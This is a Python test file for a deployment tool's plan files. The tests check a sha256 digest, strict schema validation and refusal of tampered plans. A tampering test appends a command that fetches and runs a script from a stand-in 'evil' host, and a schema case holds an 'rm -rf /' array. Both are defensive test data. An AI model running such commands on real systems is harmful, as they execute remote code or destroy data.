"""Issue 14: a plan file is the plan that was reviewed. Its digest (sha256 of the canonical
JSON of every other field) is written into it and checked on load; the schema is checked
field by field, each problem named by the file and the JSON path; nothing can be left out to
switch a check off; --expect and --local refuse the wrong plan. Every socket connection
fails loudly here, so "before any connection" is proven."""

from __future__ import annotations

import asyncio
import hashlib
import json
import socket
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from zonekit import make_spec, make_zone

from nodeswap.errors import EXIT_INPUT, PlanFileError
from nodeswap.live.planning import zone_unchanged
from nodeswap.plan import planfile
from nodeswap.plan.build import build_plan
from nodeswap.plan.model import Plan, Step, Target, ZoneId, digest_of
from nodeswap.run.runs import read_plan
from nodeswap.transport.local import LocalConnector

KEY = "ssh-ed25519 SHA256:planplanplanplanplanplanplanplanplanplanpla"


@pytest.fixture(autouse=True)
def no_connections(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: Any, **kw: Any) -> Any:
        raise AssertionError(f"a connection was attempted: {args[1:]}")

    async def refuse_async(*args: Any, **kw: Any) -> Any:
        return refuse(*args, **kw)

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(asyncio.BaseEventLoop, "create_connection", refuse_async)
    monkeypatch.setattr(asyncio.BaseEventLoop, "sock_connect", refuse_async)


def offline_plan() -> Plan:
    return build_plan(make_zone("novg"), make_spec(seed=1), today="20261127")


def live_plan() -> Plan:
    """As planning.plan_live leaves it: made on a firstbox, with the fingerprint's kind."""
    plan = offline_plan()
    return replace(plan, zone=ZoneId("10.16.100.2", ("zz1a",), KEY, offline=False),
                   fingerprint_kind="zone-state")


def local_plan(tmp: Path) -> Plan:
    step = Step("one", "p", "R6", "first", "fb", command=f"echo one >> {tmp / 'log'}")
    return Plan("proxy", "4.3.0", ("xenial", "16.04.5"), {},
                {"fb": Target("fb", "127.0.0.1", "fb", via_firstbox=False)}, (step,),
                transport="local")  # fmt: skip


def saved(plan: Plan, tmp: Path) -> Path:
    path = tmp / "plan.json"
    planfile.save(plan, path)
    return path


def edited(path: Path, change: Any, *, redigest: bool) -> Path:
    """The plan file changed by hand; ``redigest``: and its digest recomputed, as someone
    who knows how nodeswap computes it would."""
    data = json.loads(path.read_text())
    change(data)
    if redigest:
        data["digest"] = digest_of(data)
    path.write_text(json.dumps(data, indent=2))
    return path


def refused(path: Path) -> str:
    with pytest.raises(PlanFileError) as err:
        read_plan(path)
    assert err.value.exit_code == EXIT_INPUT
    return str(err.value)


def test_the_digest_is_the_sha256_of_the_canonical_json_of_every_other_field(
        tmp_path: Path) -> None:  # fmt: skip
    plan = live_plan()
    path = saved(plan, tmp_path)
    data = json.loads(path.read_text())
    body = {k: v for k, v in data.items() if k != "digest"}
    canonical = json.dumps(body, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    assert data["digest"] == hashlib.sha256(canonical.encode("utf-8")).hexdigest()
    assert data["digest"] == plan.fingerprint()
    again = read_plan(path)
    assert again == plan and again.fingerprint() == data["digest"]


def test_non_ascii_text_is_hashed_as_utf8_not_escaped(tmp_path: Path) -> None:
    plan = replace(local_plan(tmp_path), warnings=("网关 changed",))
    path = saved(plan, tmp_path)
    body = {k: v for k, v in json.loads(path.read_text()).items() if k != "digest"}
    raw = json.dumps(body, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    assert "网关" in raw and plan.fingerprint() == hashlib.sha256(raw.encode()).hexdigest()
    assert read_plan(path).fingerprint() == plan.fingerprint()


def test_a_command_appended_by_hand_to_r6_backup_is_refused(tmp_path: Path) -> None:
    path = saved(offline_plan(), tmp_path)

    def append(data: dict[str, Any]) -> None:
        step = next(s for s in data["steps"] if s["id"] == "r6-backup")
        step["command"] += "; curl -s http://evil/x | sh"

    text = refused(edited(path, append, redigest=False))
    assert text.startswith(f"{path}: digest: the content does not match the plan's digest")
    assert "changed after `nodeswap plan` wrote it" in text


def test_a_plan_without_a_digest_is_refused(tmp_path: Path) -> None:
    path = edited(saved(offline_plan(), tmp_path), lambda d: d.pop("digest"), redigest=False)
    assert f"{path}: digest: missing" in refused(path)


@pytest.mark.parametrize("redigest", [False, True])
def test_deleting_the_fingerprint_kind_of_a_live_plan_is_refused(tmp_path: Path,
                                                                 redigest: bool) -> None:
    path = edited(saved(live_plan(), tmp_path), lambda d: d.update(fingerprint_kind=None),
                  redigest=redigest)
    text = refused(path)
    if redigest:
        assert f"{path}: fingerprint_kind: null: a live plan carries 'zone-state'" in text
    else:
        assert "digest: the content does not match" in text


def test_zone_unchanged_refuses_a_live_plan_without_its_fingerprint_kind() -> None:
    """Defence in depth: a plan object that lost the field (not from a file) is not waved
    through the zone-changed check either; nothing is contacted."""
    plan = live_plan()
    plan = replace(plan, fingerprint_kind=None)
    fb = plan.targets["firstbox"]
    with pytest.raises(PlanFileError) as err:
        asyncio.run(zone_unchanged(LocalConnector(), fb, plan))
    assert "fingerprint_kind" in str(err.value)


@pytest.mark.parametrize(("change", "expected"), [
    (lambda d: d["steps"][12].update(command=["rm", "-rf", "/"]),
     "steps[12].command: must be a string, not an array"),
    (lambda d: d["steps"][3].update(sudo=True),
     "steps[3].sudo: unknown field (not in a nodeswap plan)"),
    (lambda d: d["steps"][3].pop("check"), "steps[3].check: missing"),
    (lambda d: d["steps"][0].update(timeout="600"),
     "steps[0].timeout: must be a number of seconds, not a string"),
    (lambda d: d["steps"][0].update(gate=1), "steps[0].gate: must be true or false"),
    (lambda d: d["steps"][5].update(target="elsewhere"),
     "steps[5].target: 'elsewhere' is not one of the plan's targets"),
    (lambda d: d["steps"][5].update(id=d["steps"][4]["id"]),
     "steps[5].id: 'fetch-proxy0-interfaces' is also the id of steps[4]"),
    (lambda d: d["targets"]["firstbox"].update(address=7), "targets.firstbox.address: must be"),
    (lambda d: d.update(role=None), "role: must be a string, not null"),
    (lambda d: d.update(extra="x"), "extra: unknown field"),
    (lambda d: d.update(firstbox_target="nobody"),
     "firstbox_target: 'nobody' (the zone lock's host) is not one of the plan's targets"),
    (lambda d: d.pop("firstbox_target"), "firstbox_target: missing"),
    (lambda d: d.pop("irreversible_phase"), "irreversible_phase: missing"),
    (lambda d: d.pop("manual_restore"), "manual_restore: missing"),
    (lambda d: d.pop("journal_zone"), "journal_zone: missing"),
    (lambda d: d.update(irreversible_phase=None), "irreversible_phase: null: a plan that names"),
    (lambda d: d.update(firstbox_target=["x"]), "firstbox_target: must be a string, not an array"),
    (lambda d: d.update(irreversible_phase={}),
     "irreversible_phase: must be a string, not an object"),
    (lambda d: d.update(irreversible_phase="never"),
     "irreversible_phase: 'never' is the phase of no step"),
    (lambda d: d["meta"].update(irreversible_phase="archive"),
     "meta.irreversible_phase: not read from meta (plan format 4): it is the top-level"),
    (lambda d: d["meta"].update(firstbox="firstbox"),
     "meta.firstbox: not read from meta (plan format 4): it is the top-level field "
     "'firstbox_target'"),
    (lambda d: d["meta"].update(zone="z"), "meta.zone: not read from meta (plan format 4)"),
    (lambda d: d.update(inventory_fingerprint=""), "inventory_fingerprint: '' is not a sha256"),
    (lambda d: d.update(transport="local"), "transport: 'local', but the plan "
     "names a zone"),
    (lambda d: d.update(zone=None), "zone: must be an object, not null"),
    (lambda d: d["files"][0].update(mode=-1), "files[0].mode: must be a file mode"),
])  # fmt: skip
def test_schema_problems_name_the_file_and_the_json_path(tmp_path: Path, change: Any,
                                                         expected: str) -> None:
    """Even with the digest recomputed, a plan that is not whole and well typed is refused."""
    path = edited(saved(live_plan(), tmp_path), change, redigest=True)
    text = refused(path)
    assert f"{path}: {expected}" in text, text


def test_every_schema_problem_is_named_at_once(tmp_path: Path) -> None:
    def two(d: dict[str, Any]) -> None:
        d["steps"][1]["command"] = 1
        d["steps"][2]["verify"] = 2

    text = refused(edited(saved(live_plan(), tmp_path), two, redigest=True))
    assert "steps[1].command" in text and "steps[2].verify" in text


@pytest.mark.parametrize(("raw", "expected"), [
    (b'{"format": 2, "format": 2}', "key 'format' appears twice"),
    (b'{"format": NaN}', "NaN is not a JSON number"),
    (b"\xff\xfe", "not JSON"),
    (b"[" * 100_000, "not JSON"),
    (b'{"format": 2, "role": "\\ud800"}', "role: a string that is not text"),
    (b"[]", "a JSON an array, not an object"),
])  # fmt: skip
def test_what_is_not_a_json_plan_is_refused(tmp_path: Path, raw: bytes, expected: str) -> None:
    path = tmp_path / "plan.json"
    path.write_bytes(raw)
    assert expected in refused(path)


def test_a_plan_not_exactly_as_nodeswap_writes_it_is_refused(tmp_path: Path) -> None:
    """So the digest apply records (of the plan as parsed) is always the file's."""
    plan = local_plan(tmp_path)
    path = edited(saved(plan, tmp_path), lambda d: d.update(format=4.0), redigest=True)
    assert "format: 4.0 is written 4 by nodeswap" in refused(path)


def test_expect_refuses_another_plan_naming_both(tmp_path: Path) -> None:
    plan = offline_plan()
    other = "ab" * 32
    with pytest.raises(PlanFileError) as err:
        planfile.refuse_unexpected(plan, other, "plan.json")
    assert plan.fingerprint() in str(err.value) and other in str(err.value)
    planfile.refuse_unexpected(plan, plan.fingerprint().upper(), "plan.json")  # it passes
    with pytest.raises(PlanFileError, match="not a plan digest"):
        planfile.refuse_unexpected(plan, plan.fingerprint()[:12], "plan.json")


def test_local_accepts_only_a_plan_made_for_it(tmp_path: Path) -> None:
    planfile.refuse_not_local(local_plan(tmp_path), "plan.json")
    with pytest.raises(PlanFileError) as err:
        planfile.refuse_not_local(live_plan(), "plan.json")
    assert "made for firstbox 10.16.100.2" in str(err.value) and "--local" in str(err.value)
    unmarked = replace(local_plan(tmp_path), transport=None)
    with pytest.raises(PlanFileError, match="not marked for --local"):
        planfile.refuse_not_local(unmarked, "plan.json")


@pytest.mark.parametrize(("change", "says"), [
    (lambda d: d["meta"].update(transport="local"),
     "meta.transport: not read from meta (plan format 4): it is the top-level field 'transport'"),
    (lambda d: d["meta"].update(fingerprint_kind="zone-state"),
     "meta.fingerprint_kind: not read from meta (plan format 4): it is the top-level field"),
    (lambda d: d.update(transport="ssh"), "transport: 'ssh': null (SSH) or 'local' (--local)"),
])
def test_what_steers_apply_is_typed_never_a_meta_string(tmp_path: Path, change: Any,
                                                         says: str) -> None:  # fmt: skip
    """Issue 12: apply is steered by typed plan fields; the strings of older formats' meta are
    refused by name, so a hand edit cannot switch the zone check or --local on or off."""
    path = edited(saved(live_plan(), tmp_path), change, redigest=True)
    assert says in refused(path)
